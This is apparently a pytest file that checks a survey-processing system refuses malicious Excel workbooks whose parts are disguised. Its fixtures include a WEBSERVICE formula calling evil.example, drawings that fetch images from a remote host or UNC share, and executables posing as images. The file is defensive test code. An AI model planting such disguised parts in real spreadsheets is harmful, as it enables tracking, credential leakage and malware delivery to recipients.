"""The parts of a malicious respondent's workbook are called otherwise than what they are, and so are looked at as something harmless.

A sheet is called as data, a drawing fetches its picture from a server, a text is written in UTF-16, a sheet is of the binary kind, and a
program lies where a picture should. The workbook is to go back with our marks, to its sender and the contact, or to be passed on to the
staff. A drawing with notes, a picture of a phone and a workbook for macros without any are people's own.
"""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.attacks.books import changed, with_part
from tests.attacks.scene import Scene, person
from tests.workbooks.files import unzipped, zipped
from tests.workbooks.test_harmless import PICTURE, xlsx

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_DRAWN = "application/vnd.openxmlformats-officedocument.vmlDrawing"
_SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
EVIL = "evil.example"
_SPACES = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
_VML = f"<xml {_SPACES}><v:shape><v:imagedata {{}}/></v:shape></xml>"


def _renamed(book: bytes) -> bytes:
    """Return a workbook whose first sheet is called as data, and works with a server."""
    first = min(name for name in unzipped(book) if name.startswith("xl/worksheets/") and name.endswith(".xml"))
    row = f'<row r="900"><c r="AA900" t="str"><f>WEBSERVICE("http://{EVIL}/a")</f><v>0</v></c></row></sheetData>'
    made = changed(book, first, lambda part: part.replace(b"</sheetData>", row.encode()))
    other = first.replace(".xml", ".dat")
    moved = {other if name == first else name: content for name, content in unzipped(made).items()}
    for name in ("[Content_Types].xml", "xl/_rels/workbook.xml.rels"):
        moved[name] = moved[name].replace(first.removeprefix("xl/").encode(), other.removeprefix("xl/").encode())
    return zipped(moved)


def _drawing(attribute: str) -> Callable[[bytes], bytes]:
    return lambda book: with_part(book, "xl/drawings/vmlDrawing9.vml", _VML.format(attribute).encode(), _DRAWN, f"{_OFFICE}/vmlDrawing")


def _soup(encoding: str) -> Callable[[bytes], bytes]:
    """Return what puts a drawing into a workbook that is no XML, of which programs show what they understand."""
    content = _VML.format(f'src="http://{EVIL}/a.png"').replace("<v:shape>", "<v:shape <v:shape><o:idmap").encode(encoding)
    return lambda book: with_part(book, "xl/drawings/vmlDrawing9.vml", content, _DRAWN, f"{_OFFICE}/vmlDrawing")


def _in_utf16(book: bytes) -> bytes:
    """Return a workbook with a drawing in UTF-16."""
    content = ('<?xml version="1.0" encoding="UTF-16"?>' + _VML.format(f'src="http://{EVIL}/a.png"')).encode("utf-16")
    return with_part(book, "xl/drawings/drawing9.xml", content, _DRAWN, f"{_OFFICE}/drawing")


def _binary(book: bytes) -> bytes:
    """Return a workbook with a sheet in the binary format, whose formulas nobody reads."""
    return with_part(book, "xl/worksheets/sheet99.bin", EVIL.encode(), "application/vnd.ms-excel.worksheet", f"{_OFFICE}/worksheet")


def _program(name: str) -> Callable[[bytes], bytes]:
    return lambda book: with_part(book, name, b"MZ" + EVIL.encode(), "image/png", f"{_OFFICE}/image")


DISGUISED: dict[str, Callable[[bytes], bytes]] = {
    "a sheet called as data": _renamed,
    "a drawing with a picture from elsewhere": _drawing(f'src="http://{EVIL}/a.png"'),
    "a drawing with a picture of a share": _drawing(rf'o:href="\\{EVIL}\share\a.png"'),
    "a drawing that is no XML": _soup("utf-8"),
    "a drawing in UTF-16 that is no XML": _soup("utf-16"),
    "a text in UTF-16": _in_utf16,
    "a binary sheet": _binary,
    "a program as a picture": _program("xl/media/image9.png"),
    "a program as a printer": _program("xl/printerSettings/printerSettings9.bin"),
}


@pytest.mark.parametrize("how", DISGUISED)
def test_what_is_called_otherwise_goes_back_to_nobody(scene: Scene, how: str) -> None:
    """Who must correct something gets a workbook of ours."""
    scene.reply(8, person(8), ("answers.xlsx", DISGUISED[how](scene.workbook(8, employees="many"))))
    left = scene.left()
    assert person(8) in {one.to for one in left}
    assert not [one for one in left if EVIL.encode() in one.attached or EVIL.encode("utf-16-le") in one.attached]


@pytest.mark.parametrize("how", DISGUISED)
def test_what_is_called_otherwise_is_passed_on_to_nobody(scene: Scene, how: str) -> None:
    """Staff are told where it lies."""
    scene.reply(5, person(5), ("tables.xlsx", DISGUISED[how](xlsx())), text="Which year is meant in question 1.4? See the attached file.")
    (letter,) = scene.passed_on()
    assert not letter.letter.attachments


OWN: dict[str, Callable[[bytes], bytes]] = {
    "a drawing with notes": _drawing('o:title="our notes"'),
    "a picture": lambda book: with_part(book, "xl/media/image9.png", PICTURE, "image/png", f"{_OFFICE}/image"),
    "a workbook for macros without any": lambda book: changed(
        book, "[Content_Types].xml", lambda part: part.replace(_SHEETS.encode(), b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    ),
}


@pytest.mark.parametrize("how", OWN)
def test_what_people_have_in_their_workbooks_goes_back_with_our_marks(scene: Scene, how: str) -> None:
    """The honest counterparts: all else in it is as they sent it."""
    sent = OWN[how](scene.workbook(8, employees="many"))
    scene.reply(8, person(8), ("answers.xlsx", sent))
    (back,) = (one for one in scene.left() if one.letter.workbook)
    extra = b"our notes" if "notes" in how else PICTURE if how == "a picture" else b"macroEnabled.main"
    assert extra in back.attached
